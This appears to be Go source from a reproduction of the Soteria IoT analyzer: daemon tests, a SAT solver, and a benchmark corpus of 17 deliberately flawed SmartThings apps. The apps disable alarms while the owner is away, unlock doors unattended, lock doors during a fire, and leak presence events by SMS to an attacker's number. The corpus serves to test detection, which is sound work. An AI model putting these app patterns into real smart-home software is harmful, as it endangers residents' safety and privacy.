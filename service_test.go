package soteria

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/paperapps"
)

// TestServiceQuickstart exercises the public daemon surface end to
// end: NewService with a store directory, one analysis over HTTP, and
// a second service over the same directory serving the result without
// re-analysis — the cross-restart contract soteriad is built on.
func TestServiceQuickstart(t *testing.T) {
	dir := t.TempDir()
	body, _ := json.Marshal(map[string]string{
		"name": "smoke-alarm", "source": paperapps.SmokeAlarm,
	})

	post := func(svc *Service) map[string]any {
		t.Helper()
		ts := httptest.NewServer(svc.Handler())
		defer ts.Close()
		resp, err := http.Post(ts.URL+"/v1/analyze", "application/json", bytes.NewReader(body))
		if err != nil {
			t.Fatalf("POST: %v", err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("POST: status %d", resp.StatusCode)
		}
		var decoded map[string]any
		if err := json.NewDecoder(resp.Body).Decode(&decoded); err != nil {
			t.Fatalf("decoding: %v", err)
		}
		return decoded
	}
	shutdown := func(svc *Service) {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := svc.Shutdown(ctx); err != nil {
			t.Fatalf("Shutdown: %v", err)
		}
	}

	svc, err := NewService(ServiceConfig{StoreDir: dir, Workers: 2})
	if err != nil {
		t.Fatalf("NewService: %v", err)
	}
	first := post(svc)
	if first["cached"] == true {
		t.Fatal("first analysis claims cached")
	}
	rec, ok := first["result"].(map[string]any)
	if !ok || rec["schema"] != float64(2) {
		t.Fatalf("no schema-1 record in response: %v", first)
	}
	shutdown(svc)

	// A fresh service over the same directory — a daemon restart —
	// must answer from the persistent store.
	svc2, err := NewService(ServiceConfig{StoreDir: dir, Workers: 2})
	if err != nil {
		t.Fatalf("NewService (restart): %v", err)
	}
	defer shutdown(svc2)
	second := post(svc2)
	if second["cached"] != true {
		t.Fatalf("restarted service re-analyzed: %v", second)
	}
	a, _ := json.Marshal(first["result"])
	b, _ := json.Marshal(second["result"])
	if !bytes.Equal(a, b) {
		t.Fatalf("records differ across restart:\n%s\n---\n%s", a, b)
	}
}

// TestResultJSONMatchesServiceRecord pins the CLI/daemon contract:
// Result.JSON from an in-process analysis is byte-identical to the
// record the service stores and serves for the same input.
func TestResultJSONMatchesServiceRecord(t *testing.T) {
	app, err := ParseApp("smoke-alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatalf("ParseApp: %v", err)
	}
	res, err := Analyze(app)
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	data, err := res.JSON()
	if err != nil {
		t.Fatalf("JSON: %v", err)
	}
	var rec map[string]any
	if err := json.Unmarshal(data, &rec); err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	if rec["schema"] != float64(2) {
		t.Fatalf("schema = %v, want 2", rec["schema"])
	}

	svc, err := NewService(ServiceConfig{StoreDir: t.TempDir()})
	if err != nil {
		t.Fatalf("NewService: %v", err)
	}
	defer func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		svc.Shutdown(ctx)
	}()
	ts := httptest.NewServer(svc.Handler())
	defer ts.Close()
	body, _ := json.Marshal(map[string]string{
		"name": "smoke-alarm", "source": paperapps.SmokeAlarm,
	})
	resp, err := http.Post(ts.URL+"/v1/analyze", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatalf("POST: %v", err)
	}
	defer resp.Body.Close()
	var jr struct {
		Result json.RawMessage `json:"result"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&jr); err != nil {
		t.Fatalf("decoding: %v", err)
	}
	var svcRec map[string]any
	if err := json.Unmarshal(jr.Result, &svcRec); err != nil {
		t.Fatalf("unmarshal service record: %v", err)
	}
	norm := func(v map[string]any) string {
		b, _ := json.Marshal(v)
		return string(b)
	}
	if norm(rec) != norm(svcRec) {
		t.Fatalf("CLI and service records differ:\n%s\n---\n%s", norm(rec), norm(svcRec))
	}
}
