package sat

import (
	"math/rand"
	"testing"
)

func TestTrivial(t *testing.T) {
	f := NewFormula(1)
	if _, ok := Solve(f); !ok {
		t.Error("empty CNF is satisfiable")
	}
	f.Add(1)
	m, ok := Solve(f)
	if !ok || !m.Value(1) {
		t.Error("unit clause")
	}
}

func TestContradiction(t *testing.T) {
	f := NewFormula(1)
	f.Add(1)
	f.Add(-1)
	if _, ok := Solve(f); ok {
		t.Error("x ∧ ¬x should be unsat")
	}
}

func TestEmptyClauseUnsat(t *testing.T) {
	f := NewFormula(1)
	f.Add() // empty clause
	if _, ok := Solve(f); ok {
		t.Error("empty clause should be unsat")
	}
}

func TestSimpleImplicationChain(t *testing.T) {
	// x1 ∧ (¬x1 ∨ x2) ∧ (¬x2 ∨ x3): forces all true.
	f := NewFormula(3)
	f.Add(1)
	f.Add(-1, 2)
	f.Add(-2, 3)
	m, ok := Solve(f)
	if !ok || !m.Value(1) || !m.Value(2) || !m.Value(3) {
		t.Errorf("model = %v ok=%t", m, ok)
	}
}

func TestPigeonhole3x2(t *testing.T) {
	// 3 pigeons, 2 holes: unsat. Var p*2+h+1 = pigeon p in hole h.
	v := func(p, h int) Lit { return Lit(p*2 + h + 1) }
	f := NewFormula(6)
	for p := 0; p < 3; p++ {
		f.Add(v(p, 0), v(p, 1))
	}
	for h := 0; h < 2; h++ {
		for p1 := 0; p1 < 3; p1++ {
			for p2 := p1 + 1; p2 < 3; p2++ {
				f.Add(-v(p1, h), -v(p2, h))
			}
		}
	}
	if _, ok := Solve(f); ok {
		t.Error("PHP(3,2) should be unsat")
	}
}

func TestModelSatisfiesAllClauses(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for trial := 0; trial < 50; trial++ {
		n := 5 + rng.Intn(10)
		f := NewFormula(n)
		// Random 3-SAT at low clause density (likely satisfiable).
		for c := 0; c < n*2; c++ {
			var lits []Lit
			for j := 0; j < 3; j++ {
				v := Lit(1 + rng.Intn(n))
				if rng.Intn(2) == 0 {
					v = -v
				}
				lits = append(lits, v)
			}
			f.Add(lits...)
		}
		m, ok := Solve(f)
		if !ok {
			continue // may genuinely be unsat
		}
		for _, c := range f.Clauses {
			sat := false
			for _, l := range c {
				if m.Value(l) {
					sat = true
					break
				}
			}
			if !sat {
				t.Fatalf("model does not satisfy clause %v", c)
			}
		}
	}
}

// Exhaustive cross-check against brute force on small formulas.
func TestAgainstBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(99))
	for trial := 0; trial < 100; trial++ {
		n := 2 + rng.Intn(4) // up to 5 vars
		f := NewFormula(n)
		nc := 1 + rng.Intn(8)
		for c := 0; c < nc; c++ {
			width := 1 + rng.Intn(3)
			var lits []Lit
			for j := 0; j < width; j++ {
				v := Lit(1 + rng.Intn(n))
				if rng.Intn(2) == 0 {
					v = -v
				}
				lits = append(lits, v)
			}
			f.Add(lits...)
		}
		_, got := Solve(f)
		want := bruteForce(f)
		if got != want {
			t.Fatalf("trial %d: Solve=%t brute=%t clauses=%v", trial, got, want, f.Clauses)
		}
	}
}

func bruteForce(f *Formula) bool {
	n := f.NumVars
	for mask := 0; mask < 1<<n; mask++ {
		ok := true
		for _, c := range f.Clauses {
			sat := false
			for _, l := range c {
				v := int(l)
				neg := v < 0
				if neg {
					v = -v
				}
				val := mask&(1<<(v-1)) != 0
				if val != neg {
					sat = true
					break
				}
			}
			if !sat {
				ok = false
				break
			}
		}
		if ok {
			return true
		}
	}
	return false
}

func TestLiteralOutOfRangePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("expected panic")
		}
	}()
	f := NewFormula(2)
	f.Add(3)
}
