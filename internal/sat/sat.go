// Package sat implements a DPLL propositional satisfiability solver
// over CNF: the second half of the NuSMV-replacement substrate
// (paper §5 combines BDD-based with SAT-based model checking [8]).
// The solver uses unit propagation, a simple activity-free branching
// heuristic, and chronological backtracking — ample for the bounded
// model checking instances Soteria's app models generate.
package sat

import (
	"fmt"

	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
)

// Lit is a literal: positive value v means variable v, negative -v
// means ¬v. Variables are numbered from 1.
type Lit int

// Clause is a disjunction of literals.
type Clause []Lit

// Formula is a CNF formula.
type Formula struct {
	NumVars int
	Clauses []Clause
}

// NewFormula creates an empty CNF over n variables.
func NewFormula(n int) *Formula { return &Formula{NumVars: n} }

// Add appends a clause; it panics on out-of-range literals to catch
// encoding bugs early.
func (f *Formula) Add(lits ...Lit) {
	for _, l := range lits {
		v := l
		if v < 0 {
			v = -v
		}
		if v == 0 || int(v) > f.NumVars {
			panic(fmt.Sprintf("sat: literal %d out of range (1..%d)", l, f.NumVars))
		}
	}
	c := make(Clause, len(lits))
	copy(c, lits)
	f.Clauses = append(f.Clauses, c)
}

// Assignment maps variable -> value; index 0 unused.
type Assignment []bool

// Value returns the literal's value under the assignment.
func (a Assignment) Value(l Lit) bool {
	if l > 0 {
		return a[l]
	}
	return !a[-l]
}

// Solve decides satisfiability; when satisfiable it returns a model.
func Solve(f *Formula) (Assignment, bool) {
	return SolveBudget(f, nil)
}

// SolveBudget is Solve under a resource budget: DPLL conflicts are
// charged against MaxSATConflicts and the search cooperatively checks
// the wall-clock deadline. Exhaustion panics with a *guard.BudgetError
// for the enclosing recovery boundary; a nil budget disables checks.
func SolveBudget(f *Formula, b *guard.Budget) (Assignment, bool) {
	faultinject.Hit(faultinject.SiteSATSolve)
	s := &solver{
		f:      f,
		budget: b,
		assign: make([]int8, f.NumVars+1), // 0 unset, 1 true, -1 false
	}
	// Build watch lists: variable -> clauses containing it.
	s.occur = make([][]int, f.NumVars+1)
	for ci, c := range f.Clauses {
		for _, l := range c {
			v := l
			if v < 0 {
				v = -v
			}
			s.occur[v] = append(s.occur[v], ci)
		}
	}
	if !s.dpll() {
		return nil, false
	}
	model := make(Assignment, f.NumVars+1)
	for v := 1; v <= f.NumVars; v++ {
		model[v] = s.assign[v] == 1
	}
	return model, true
}

type solver struct {
	f      *Formula
	assign []int8
	trail  []int // assigned variables in order
	occur  [][]int
	budget *guard.Budget
}

func (s *solver) litVal(l Lit) int8 {
	v := l
	if v < 0 {
		v = -v
	}
	a := s.assign[v]
	if l < 0 {
		return -a
	}
	return a
}

// set assigns variable of l so l is true; returns trail length before.
func (s *solver) set(l Lit) {
	v := l
	val := int8(1)
	if v < 0 {
		v = -v
		val = -1
	}
	s.assign[v] = val
	s.trail = append(s.trail, int(v))
}

func (s *solver) undoTo(mark int) {
	for len(s.trail) > mark {
		v := s.trail[len(s.trail)-1]
		s.trail = s.trail[:len(s.trail)-1]
		s.assign[v] = 0
	}
}

// propagate runs unit propagation; returns false on conflict.
func (s *solver) propagate() bool {
	for {
		progress := false
		for _, c := range s.f.Clauses {
			sat := false
			unassigned := 0
			var unit Lit
			for _, l := range c {
				switch s.litVal(l) {
				case 1:
					sat = true
				case 0:
					unassigned++
					unit = l
				}
				if sat {
					break
				}
			}
			if sat {
				continue
			}
			if unassigned == 0 {
				return false // conflict
			}
			if unassigned == 1 {
				s.set(unit)
				progress = true
			}
		}
		if !progress {
			return true
		}
	}
}

func (s *solver) pickBranch() Lit {
	// First unassigned variable, preferring the polarity that appears
	// in more clauses of its occurrence list.
	for v := 1; v <= s.f.NumVars; v++ {
		if s.assign[v] != 0 {
			continue
		}
		pos, neg := 0, 0
		for _, ci := range s.occur[v] {
			for _, l := range s.f.Clauses[ci] {
				if int(l) == v {
					pos++
				} else if int(l) == -v {
					neg++
				}
			}
		}
		if neg > pos {
			return Lit(-v)
		}
		return Lit(v)
	}
	return 0
}

func (s *solver) dpll() bool {
	s.budget.Tick("sat")
	if !s.propagate() {
		s.budget.SATConflicts(1, "sat")
		return false
	}
	l := s.pickBranch()
	if l == 0 {
		return true // all assigned, no conflict
	}
	mark := len(s.trail)
	s.set(l)
	if s.dpll() {
		return true
	}
	s.undoTo(mark)
	s.set(-l)
	if s.dpll() {
		return true
	}
	s.undoTo(mark)
	return false
}
