package maliot

// The 17 MalIoT apps (Appendix C). Each source carries its ground
// truth in a comment block, as the paper's corpus does.

var suite = []App{
	{
		ID: "App1", Name: "MalIoT-App1",
		Description: "The lights are turned off at night when motion is detected.",
		Cluster:     "motion-lights",
		Expected:    []string{"P.2"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Device events",
		Source: `
/* Ground truth: violates P.2 — the app prevents brightening the path
   the user is walking (lights off on motion at night). */
definition(name: "MalIoT-App1", namespace: "maliot", author: "MalIoT", category: "Convenience")
preferences {
    section("Devices") {
        input "the_light", "capability.switch", title: "Light"
        input "the_motion", "capability.motionSensor", title: "Motion"
    }
}
def installed() { subscribe(the_motion, "motion.active", motionHandler) }
def motionHandler(evt) {
    if (state.night == "yes") {
        the_light.off()
    } else {
        the_light.on()
    }
}
`,
	},
	{
		ID: "App2", Name: "MalIoT-App2",
		Description: "The security system is turned off when there is nobody at home.",
		Expected:    []string{"P.9"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "State variables, predicate analysis",
		Source: `
/* Ground truth: violates P.9 — could leave the house vulnerable to
   break-ins. */
definition(name: "MalIoT-App2", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
preferences {
    section("Devices") {
        input "the_alarm", "capability.alarm", title: "Security system"
        input "the_presence", "capability.presenceSensor", title: "Presence"
    }
}
def installed() { subscribe(the_presence, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") {
        if (state.vacationLock != "armed") {
            the_alarm.off()
        }
    }
}
`,
	},
	{
		ID: "App3", Name: "MalIoT-App3",
		Description: "A battery-operated switch is turned off every 30 seconds.",
		Expected:    []string{"S.2"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Device events, timer events",
		Source: `
/* Ground truth: violates S.2 — the same command is sent to the device
   multiple times, draining its battery (DDoS-style). */
definition(name: "MalIoT-App3", namespace: "maliot", author: "MalIoT", category: "Convenience")
preferences {
    section("Devices") {
        input "the_switch", "capability.switch", title: "Switch"
        input "the_battery", "capability.battery", title: "Battery"
    }
}
def installed() { runIn(30, drainHandler) }
def drainHandler() {
    the_switch.off()
    the_switch.off()
    runIn(30, drainHandler)
}
`,
	},
	{
		ID: "App4", Name: "MalIoT-App4",
		Description: "The app turns off a switch to save energy after a user-specified number of minutes, but keeps the device turned on.",
		Expected:    []string{"S.1"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Device events, multiple entry points",
		Source: `
/* Ground truth: violates S.1 — the handler changes the switch to
   conflicting values (off then on) on the same path. */
definition(name: "MalIoT-App4", namespace: "maliot", author: "MalIoT", category: "Green Living")
preferences {
    section("Devices") {
        input "the_switch", "capability.switch", title: "Switch"
        input "minutes", "number", title: "Turn off after (minutes)"
    }
}
def installed() { subscribe(the_switch, "switch.on", onHandler) }
def onHandler(evt) {
    runIn(60, offHandler)
}
def offHandler() {
    the_switch.off()
    the_switch.on()
}
`,
	},
	{
		ID: "App5", Name: "MalIoT-App5",
		Description: "The app sounds the alarm when there is smoke; another method that would silence the alarm is reachable only by a reflective call that never targets it at run time.",
		Expected:    []string{"P.10"},
		Outcome:     FalsePositive, GroundTruthViolations: 0,
		Details: "Call by reflection, state variables",
		Source: `
/* Ground truth: NO real violation. The reflective call "${state.m}"()
   always resolves to logStatus() at run time; Soteria's safe
   over-approximation of the call graph makes it report that
   disableAlarm() can silence the alarm on smoke (a false positive,
   paper §6.2). */
definition(name: "MalIoT-App5", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
preferences {
    section("Devices") {
        input "the_smoke", "capability.smokeDetector", title: "Smoke detector"
        input "the_alarm", "capability.alarm", title: "Alarm"
    }
}
def installed() { subscribe(the_smoke, "smoke.detected", smokeHandler) }
def smokeHandler(evt) {
    the_alarm.siren()
    httpGet("http://config.example.com/method") { resp ->
        state.m = resp.data.toString()
    }
    "${state.m}"()
}
def logStatus() {
    log.info "alarm sounded"
}
def disableAlarm() {
    the_alarm.off()
}
`,
	},
	{
		ID: "App6", Name: "MalIoT-App6",
		Description: "When the user leaves home, a light is turned on and the door is unlocked after some time.",
		Expected:    []string{"P.1", "P.12", "P.13"},
		Outcome:     TruePositive, GroundTruthViolations: 3,
		Details: "Multiple violations, multiple entry points, timer events",
		Source: `
/* Ground truth: violates P.1, P.12 and P.13 — an attacker learns the
   user is away (light signal) and the door unlocks unattended. */
definition(name: "MalIoT-App6", namespace: "maliot", author: "MalIoT", category: "Convenience")
preferences {
    section("Devices") {
        input "the_door", "capability.lock", title: "Door"
        input "the_light", "capability.switch", title: "Signal light"
        input "the_presence", "capability.presenceSensor", title: "Presence"
    }
}
def installed() { subscribe(the_presence, "presence.not present", awayHandler) }
def awayHandler(evt) {
    the_light.on()
    runIn(300, laterHandler)
}
def laterHandler() {
    the_door.unlock()
}
`,
	},
	{
		ID: "App7", Name: "MalIoT-App7",
		Description: "The app turns switches on at user presence and off at a user-specified time; both events can happen at once.",
		Expected:    []string{"S.4"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Multiple entry points, timer events",
		Source: `
/* Ground truth: violates S.4 — user presence and the scheduled time
   may occur simultaneously, racing on the switch. */
definition(name: "MalIoT-App7", namespace: "maliot", author: "MalIoT", category: "Convenience")
preferences {
    section("Devices") {
        input "the_switch", "capability.switch", title: "Switch"
        input "the_presence", "capability.presenceSensor", title: "Presence"
        input "offTime", "time", title: "Turn off at"
    }
}
def installed() {
    subscribe(the_presence, "presence.present", presentHandler)
    schedule(offTime, timeHandler)
}
def presentHandler(evt) { the_switch.on() }
def timeHandler() { the_switch.off() }
`,
	},
	{
		ID: "App8", Name: "MalIoT-App8",
		Description: "The app unlocks the door when the user arrives but never locks it when the user leaves; a second handler has logic for an event it never subscribes to.",
		Expected:    []string{"P.1", "S.5"},
		Outcome:     TruePositive, GroundTruthViolations: 2,
		Details: "Multiple violations, multiple entry points, predicate analysis, mode events",
		Source: `
/* Ground truth: violates S.5 (lockHandler handles "unlocked" but the
   app subscribes only to lock.locked) and P.1 (a presence-departure
   event leaves the door unlocked). */
definition(name: "MalIoT-App8", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
preferences {
    section("Devices") {
        input "the_door", "capability.lock", title: "Door"
        input "the_presence", "capability.presenceSensor", title: "Presence"
    }
}
def installed() {
    subscribe(the_presence, "presence", presenceHandler)
    subscribe(the_door, "lock.locked", lockHandler)
}
def presenceHandler(evt) {
    if (evt.value == "present") {
        the_door.unlock()
    }
}
def lockHandler(evt) {
    if (evt.value == "unlocked") {
        sendPush("door was unlocked")
    }
}
`,
	},
	{
		ID: "App9", Name: "MalIoT-App9",
		Description: "The location mode is set to home when the user is not at home, through a web-service endpoint invoked at run time.",
		Expected:    []string{"P.27"},
		Outcome:     DynamicRequired, GroundTruthViolations: 1,
		Details: "Call by reflection / web-service mappings",
		Source: `
/* Ground truth: violates P.27 at run time — a remote GET request
   flips the mode to home while the user is away. The entry point is a
   web-service mapping, invisible to static event-subscription
   analysis; detecting it requires run-time analysis (paper §6.2). */
definition(name: "MalIoT-App9", namespace: "maliot", author: "MalIoT", category: "Convenience")
preferences {
    section("Devices") {
        input "the_presence", "capability.presenceSensor", title: "Presence"
    }
}
mappings {
    path("/sethome") {
        action: [GET: "setHome"]
    }
}
def installed() { }
def setHome() {
    setLocationMode("home")
}
`,
	},
	{
		ID: "App10", Name: "MalIoT-App10",
		Description: "The app uses dynamic device permissions: the devices it controls depend on a previously selected device type.",
		Expected:    nil,
		Outcome:     OutOfScope, GroundTruthViolations: 1,
		Details: "Dynamic device permissions",
		Source: `
/* Ground truth: dynamic device permissions — the controlled devices
   are chosen at install time from external input; outside Soteria's
   static analysis scope (paper §6.2). */
definition(name: "MalIoT-App10", namespace: "maliot", author: "MalIoT", category: "Convenience")
preferences {
    page(name: "pageOne", title: "Device type", nextPage: "pageTwo") {
        section("Choose a device type") {
            input "deviceType", "enum", options: ["switch", "lock"]
        }
    }
    page(name: "pageTwo")
}
def pageTwo() {
    dynamicPage(name: "pageTwo") {
        section("Select devices") {
            input "devices", "capability.$deviceType", multiple: true
        }
    }
}
def installed() { subscribe(devices, "switch.on", onHandler) }
def onHandler(evt) {
    devices.off()
}
`,
	},
	{
		ID: "App11", Name: "MalIoT-App11",
		Description: "The app notifies the user when the kids leave home — and also leaks the event to an attacker's phone number.",
		Expected:    []string{"T.2"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Multiple sensitive data leaks",
		Source: `
/* Ground truth: sensitive data leak via sendSms to a hard-coded
   number. The taint family flags it as T.2 (device state over the
   messaging channel): evt.displayName and evt.date flow into the
   second sendSms payload. The first sendSms is benign — its payload
   is a constant and the user-chosen recipient position is not a
   leak. */
definition(name: "MalIoT-App11", namespace: "maliot", author: "MalIoT", category: "Family")
preferences {
    section("Devices") {
        input "kids", "capability.presenceSensor", title: "Kids' presence"
        input "phone", "phone", title: "Parent phone"
    }
}
def installed() { subscribe(kids, "presence.not present", leftHandler) }
def leftHandler(evt) {
    sendSms(phone, "kids left home")
    sendSms("555-013-3713", "exfil: ${evt.displayName} left at ${evt.date}")
}
`,
	},
	{
		ID: "App12", Name: "MalIoT-App12",
		Description: "The app turns on the light switches when the alarm sounds (smoke detected).",
		Cluster:     "fire-lock",
		Expected:    []string{"P.3"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Predicate analysis, device events, mode events",
		Source: `
/* Ground truth: with App13 and App14 installed together, the chain
   smoke -> light on -> home mode -> door locked violates P.3 (the
   door is locked during a fire). Alone the app violates nothing. */
definition(name: "MalIoT-App12", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
preferences {
    section("Devices") {
        input "the_smoke", "capability.smokeDetector", title: "Smoke detector"
        input "the_light", "capability.switch", title: "Lights"
    }
}
def installed() { subscribe(the_smoke, "smoke.detected", smokeHandler) }
def smokeHandler(evt) {
    the_light.on()
}
`,
	},
	{
		ID: "App13", Name: "MalIoT-App13",
		Description: "The app changes the mode from away to home when the light switch is turned on, so that it knows the user is at home.",
		Cluster:     "fire-lock",
		Expected:    []string{"P.3"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Device events, mode events",
		Source: `
/* Ground truth: member of the App12-14 interaction violating P.3. */
definition(name: "MalIoT-App13", namespace: "maliot", author: "MalIoT", category: "Convenience")
preferences {
    section("Devices") {
        input "the_light", "capability.switch", title: "Lights"
    }
}
def installed() { subscribe(the_light, "switch.on", onHandler) }
def onHandler(evt) {
    setLocationMode("home")
}
`,
	},
	{
		ID: "App14", Name: "MalIoT-App14",
		Description: "The app locks the door when the home mode is triggered.",
		Cluster:     "fire-lock",
		Expected:    []string{"P.3"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Mode events",
		Source: `
/* Ground truth: member of the App12-14 interaction violating P.3. */
definition(name: "MalIoT-App14", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
preferences {
    section("Devices") {
        input "the_door", "capability.lock", title: "Door"
    }
}
def installed() { subscribe(location, "mode.home", homeHandler) }
def homeHandler(evt) {
    the_door.lock()
}
`,
	},
	{
		ID: "App15", Name: "MalIoT-App15",
		Description: "The lights are turned off when motion is detected.",
		Cluster:     "motion-lights",
		Expected:    []string{"P.2", "S.1"},
		Outcome:     TruePositive, GroundTruthViolations: 2,
		Details: "Device events",
		Source: `
/* Ground truth: violates P.2 alone (lights off on motion); with App1
   installed it violates S.1 — the same motion-active event drives the
   switch to conflicting values. */
definition(name: "MalIoT-App15", namespace: "maliot", author: "MalIoT", category: "Green Living")
preferences {
    section("Devices") {
        input "the_light", "capability.switch", title: "Lights"
        input "the_motion", "capability.motionSensor", title: "Motion"
    }
}
def installed() { subscribe(the_motion, "motion.active", motionHandler) }
def motionHandler(evt) {
    the_light.off()
}
`,
	},
	{
		ID: "App16", Name: "MalIoT-App16",
		Description: "The app changes the mode to sleeping when the user turns off the bedroom lights.",
		Cluster:     "sleep-mode",
		Expected:    []string{"P.14"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Device events, mode events",
		Source: `
/* Ground truth: with App17, the sleeping-mode change lets the alarm
   and plugged devices be disabled — P.14 is violated. */
definition(name: "MalIoT-App16", namespace: "maliot", author: "MalIoT", category: "Convenience")
preferences {
    section("Devices") {
        input "bedroom_light", "capability.switch", title: "Bedroom lights"
    }
}
def installed() { subscribe(bedroom_light, "switch.off", offHandler) }
def offHandler(evt) {
    setLocationMode("sleeping")
}
`,
	},
	{
		ID: "App17", Name: "MalIoT-App17",
		Description: "The app turns off all plugged devices (including the security alarm) when the sleeping mode is triggered.",
		Cluster:     "sleep-mode",
		Expected:    []string{"P.14"},
		Outcome:     TruePositive, GroundTruthViolations: 1,
		Details: "Mode events",
		Source: `
/* Ground truth: member of the App16-17 interaction; disabling the
   alarm on the sleeping-mode event violates P.14. */
definition(name: "MalIoT-App17", namespace: "maliot", author: "MalIoT", category: "Green Living")
preferences {
    section("Devices") {
        input "outlets", "capability.switch", title: "Plugged outlets"
        input "the_alarm", "capability.alarm", title: "Security alarm"
    }
}
def installed() { subscribe(location, "mode.sleeping", sleepHandler) }
def sleepHandler(evt) {
    outlets.off()
    the_alarm.off()
}
`,
	},
}
