// Package maliot is the MalIoT test corpus (paper §6, Appendix C): 17
// hand-crafted flawed SmartThings apps with ground-truth property
// violations, including single-app flaws, multi-app interaction
// clusters, call-by-reflection traps, and apps whose issues need
// dynamic analysis or are outside the threat model. Each app's ground
// truth is machine-readable so the suite can score Soteria's
// precision exactly as the paper does. The paper identifies 17 of the
// 20 ground-truth violations with one expected false positive; this
// reproduction's taint family (T.1–T.6) additionally detects App11's
// sensitive-data leak, raising the default-options score to 18
// (Run with taint disabled reproduces the paper's 17).
package maliot

import (
	"context"
	"fmt"
	"sort"

	"github.com/soteria-analysis/soteria/internal/core"
)

// Outcome classifies the expected analysis result for an app.
type Outcome int

// Expected outcomes (Appendix C's result column).
const (
	// TruePositive: Soteria must report every Expected ID.
	TruePositive Outcome = iota
	// FalsePositive: the Expected IDs are reported although the flaw
	// is not reachable at run time (App5's reflection trap).
	FalsePositive
	// DynamicRequired: the flaw exists but needs run-time analysis
	// (App9); Soteria must stay silent.
	DynamicRequired
	// OutOfScope: the flaw is outside the threat model (App10 dynamic
	// permissions); Soteria must stay silent.
	OutOfScope
)

func (o Outcome) String() string {
	switch o {
	case TruePositive:
		return "true-positive"
	case FalsePositive:
		return "false-positive"
	case DynamicRequired:
		return "dynamic-analysis-required"
	case OutOfScope:
		return "out-of-scope"
	}
	return "unknown"
}

// App is one MalIoT test app.
type App struct {
	ID          string // "App1".."App17"
	Name        string
	Description string // Appendix C description
	Source      string
	// Cluster groups apps analyzed together (multi-app violations);
	// empty means the app is analyzed alone.
	Cluster string
	// Expected lists the property IDs Soteria must report when the
	// app (or its cluster) is analyzed. For DynamicRequired/OutOfScope
	// apps it lists the *real* violations Soteria is expected to miss.
	Expected []string
	Outcome  Outcome
	// GroundTruthViolations counts this app's contribution to the
	// suite's 20 ground-truth violations.
	GroundTruthViolations int
	Details               string // program-analysis features exercised
}

// Suite returns the 17 apps in order.
func Suite() []App { return suite }

// AppByID returns the app with the given ID.
func AppByID(id string) (App, bool) {
	for _, a := range suite {
		if a.ID == id {
			return a, true
		}
	}
	return App{}, false
}

// Clusters returns the cluster names with their member app IDs, in
// deterministic order.
func Clusters() map[string][]string {
	out := map[string][]string{}
	for _, a := range suite {
		if a.Cluster != "" {
			out[a.Cluster] = append(out[a.Cluster], a.ID)
		}
	}
	return out
}

// AppResult is one row of a suite run.
type AppResult struct {
	App      App
	Reported []string // property IDs Soteria reported for the app/cluster
	// Detected counts expected IDs that were reported.
	Detected int
	// Correct is whether the outcome matches the ground truth:
	// TruePositive/FalsePositive apps must have all Expected IDs
	// reported; DynamicRequired/OutOfScope apps must have none of
	// their real violations reported.
	Correct bool
}

// SuiteResult aggregates a full run.
type SuiteResult struct {
	Apps []AppResult
	// GroundTruth is the total ground-truth violation count (20).
	GroundTruth int
	// Identified is the number of ground-truth violations Soteria
	// found: 18 under default options (the paper's 17 plus App11's
	// data leak, caught by the taint family), 17 with taint disabled.
	Identified int
	// FalsePositives counts reported-but-unreal violations (the
	// paper's one, App5).
	FalsePositives int
}

// Run analyzes the whole suite: single apps alone, clustered apps as
// environments, and scores the results against the ground truth.
func Run() (*SuiteResult, error) {
	return RunParallel(context.Background(), 1)
}

// RunParallel is Run with the cluster and single-app analyses fanned
// out over a bounded batch worker pool. The scoring — and therefore
// the suite result — is identical to the sequential run's.
func RunParallel(ctx context.Context, parallel int) (*SuiteResult, error) {
	return RunOptions(ctx, parallel, core.DefaultOptions())
}

// RunOptions is RunParallel under explicit analysis options, so tests
// can score the suite with individual property families toggled —
// e.g. taint disabled reproduces the paper's 17-of-20 headline.
func RunOptions(ctx context.Context, parallel int, opts core.Options) (*SuiteResult, error) {
	// One batch item per cluster, then one per solo app.
	clusters := Clusters()
	names := sortedKeys(clusters)
	var items []core.BatchItem
	for _, cname := range names {
		var srcs []core.NamedSource
		for _, id := range clusters[cname] {
			a, _ := AppByID(id)
			srcs = append(srcs, core.NamedSource{Name: a.Name, Source: a.Source})
		}
		items = append(items, core.BatchItem{Key: "cluster:" + cname, Sources: srcs})
	}
	for _, a := range suite {
		if a.Cluster != "" {
			continue
		}
		items = append(items, core.BatchItem{
			Key:     a.ID,
			Sources: []core.NamedSource{{Name: a.Name, Source: a.Source}},
		})
	}

	bo := core.BatchOptions{Options: opts, Parallel: parallel}
	violations := map[string]map[string]bool{}
	for _, r := range core.AnalyzeBatch(ctx, bo, items...) {
		if r.Err != nil {
			return nil, fmt.Errorf("%s: %w", r.Key, r.Err)
		}
		set := map[string]bool{}
